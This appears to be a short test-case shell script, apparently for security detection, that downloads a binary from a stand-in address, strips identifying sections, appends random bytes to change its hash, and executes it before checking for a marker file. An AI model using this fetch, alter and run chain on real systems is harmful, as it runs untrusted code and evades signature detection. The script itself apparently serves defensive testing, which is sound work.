#!/bin/sh
. /opt/case/case.sh

curl -s -o /tmp/agent http://203.0.113.10/programs/marker
strip --strip-all -R .comment -R .note.gnu.build-id /tmp/agent
head -c 64 /dev/urandom >>/tmp/agent
chmod 700 /tmp/agent && /tmp/agent
test -e /tmp/reached
took_place
